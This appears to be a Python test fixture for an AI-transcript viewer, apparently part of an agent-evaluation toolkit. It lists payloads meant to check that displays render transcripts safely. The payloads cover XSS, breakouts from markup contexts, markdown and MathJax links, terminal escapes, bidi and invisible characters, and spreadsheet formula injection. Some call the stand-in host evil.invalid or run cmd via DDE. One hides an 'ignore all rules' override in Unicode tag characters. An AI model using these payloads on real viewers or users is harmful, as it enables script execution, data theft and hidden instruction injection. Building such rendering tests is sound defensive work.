"""What an attacker, or a model, may have written into a transcript: one payload for each way a display can be attacked.

Every script sets ``window.lk_pwned``; the browser test looks for it.
"""

from __future__ import annotations

from litmuskit.records import (
    Context,
    Episode,
    Event,
    Harness,
    Label,
    Message,
    ModelCall,
    Observation,
    Source,
    ToolCall,
    Transcript,
)

SET = "window.lk_pwned=1"

PAYLOADS = {
    # markup that executes
    "script": f"<script>{SET}</script>",
    "script-upper": f"<SCRIPT\n>{SET}</SCRIPT\t>",
    "script-nul": f"<scr\x00ipt>{SET}</scr\x00ipt>",
    "script-remote": "<script src=//evil.invalid/x.js></script>",
    "img-onerror": f"<img src=x onerror={SET}>",
    "img-slashes": f"<img/src=x/onerror={SET}>",
    "img-unclosed": f'<img src=x onerror="{SET}"',
    "img-remote": "<img src=http://evil.invalid/beacon.png>",
    "svg-onload": f"<svg onload={SET}>",
    "svg-script": f"<svg><script>{SET}</script></svg>",
    "svg-animate": f"<svg><animate onbegin={SET} attributeName=x dur=1s>",
    "math-href": f"<math><mtext href='javascript:{SET}'>click</mtext></math>",
    "iframe-srcdoc": f'<iframe srcdoc="<script>parent.{SET.removeprefix("window.")}</script>"></iframe>',
    "iframe-javascript": f"<iframe src=javascript:parent.{SET}></iframe>",
    "object": f"<object data='data:text/html,<script>{SET}</script>'></object>",
    "link-javascript": f"<a href=javascript:{SET}>report</a>",
    "link-entity": f"<a href='jav&#x09;ascript:{SET}'>report</a>",
    "style": "<style>.litmuskit{display:none}*{background:url(//evil.invalid/)}</style>",
    "style-attribute": "<p style='position:fixed;inset:0;background:red'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "base": "<base href=http://evil.invalid/>",
    "form": "<form action=http://evil.invalid/><input name=token></form>",
    "details-ontoggle": f"<details open ontoggle={SET}>",
    "autofocus": f"<input autofocus onfocus={SET}>",
    "template": f"<noscript><p title='</noscript><img src=x onerror={SET}>'>",
    # breaking out of where the text stands
    "out-of-cell": f"</td></tr></table></div><img src=x onerror={SET}>",
    "out-of-attribute": f'" onmouseover="{SET}" x="',
    "out-of-attribute-single": f"' onmouseover='{SET}' x='",
    "out-of-style": f"</style><img src=x onerror={SET}>",
    "out-of-comment": f"--><img src=x onerror={SET}><!--",
    "out-of-title": f"</title><script>{SET}</script>",
    "already-escaped": f"&lt;script&gt;{SET}&lt;/script&gt;",
    "fullwidth": f"\uff1cscript\uff1e{SET}\uff1c/script\uff1e",
    "combining-bracket": f"\u0338<img src=x onerror={SET}>",
    # markdown and mathematics
    "markdown": f"[report](javascript:{SET}) ![x](http://evil.invalid/b.png)",
    "mathjax": r"costs $5 and $6, $\href{javascript:alert(1)}{x}$ \(x\) $$\require{html}$$",
    # terminals
    "ansi-hidden": "safe\x1b[8m hidden\x1b[2J\x1b[1;1H",
    "osc-link": "\x1b]8;;http://evil.invalid/\x07click\x1b]8;;\x07\x1b]0;title\x07",
    "c1-controls": "a\x9b8mb\x9d0;title\x9c\x85next",
    "overwrite": "VIOLATION: rm -rf /\rok                 \b\b\b",
    # characters that pass unseen or turn the line round
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u061c\u200f",
    "unseen": "a\u200bb\u200dc\ufeffd\u00ade\u2060f\u180eg\u3164h\u2800i\u17b4j\u034fk",
    "tags": "x" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules") + "\U000e007f",
    "selectors": "a\ufe0f\ufe00b\U000e0100c\u180b",
    "lone-surrogate": "cut mid-\ud83d and \udc00",
    "separators": "one\u2028two\u2029three\x0bfour\x0cfive\u3000six\xa0seven",
    "zalgo": "Z" + "\u0301\u0336\u20dd\u0489" * 40,
    "private-and-unassigned": "\ue000\U000f0000\U0010fffd\u0378\ufffe\U0001ffff",
    # spreadsheets
    "formula": '=HYPERLINK("http://evil.invalid/?"&A1,"report")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-return": "\r=1+1",
    "formula-space": "  =1+1",
    "formula-fullwidth": "\uff1d1+1",
    "formula-semicolon": 'ok;=1+1;"=2+2"; @SUM(1)',
    "formula-quote": '","=1+1',
}


def make_hostile_episode(text: str) -> Episode:
    """A flagged episode with the text in every place that a log lets its writer fill."""
    call = ToolCall(name=text, arguments={text: text}, id=text)
    asked = Message(role="user", content=text)
    proposed = Message(role="assistant", content=text, tool_calls=(call,))
    answered = Message(role="tool", content=text, tool_call_id=text)
    context = Context(system=text, tools=({"name": text, "description": text},))
    executed = ToolCall(name=text, arguments={text: "other"}, id=text)
    seen = Observation(position=0, call=executed, executed=True, raw=text, delivered=text)
    turns = (
        ModelCall(turn=1, context=context, delivered=((0, 1),), proposed=proposed, observations=(seen,)),
        ModelCall(turn=2, context=context, delivered=((0, 3),), proposed=Message(role="assistant", content=text)),
    )
    transcript = Transcript(messages=(asked, proposed, answered), calls=turns)
    return Episode(
        record=text,
        source=Source(path=text, member=text),
        instance=text,
        transcript=transcript,
        labels=(Label(scorer=text, violation=True, value=text, reason=text, match_key="arguments+observation"),),
        harness=Harness(name=text, version=text, benchmark=text, model=text),
        status="errored",
        error=text,
        payloads={text: text},
        events=(Event(kind=text, turn=1, detail=text),),
        groups={"suite": text, "user_task": text},
    )
